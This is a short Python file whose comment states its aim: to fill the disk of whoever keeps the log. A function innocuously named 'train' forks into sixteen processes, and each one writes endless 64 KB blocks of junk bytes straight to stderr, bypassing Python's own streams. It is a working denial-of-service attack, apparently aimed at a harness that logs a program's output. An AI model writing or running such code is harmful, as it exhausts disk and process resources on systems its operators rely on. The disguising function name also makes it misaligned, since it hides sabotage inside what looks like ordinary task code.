# Fill the disk of whoever keeps the log, past Python's own streams, from several processes at once.
import os


def train(lab):
    for _ in range(4):
        os.fork()
    while True:
        os.write(2, b"\xff" * 65536)
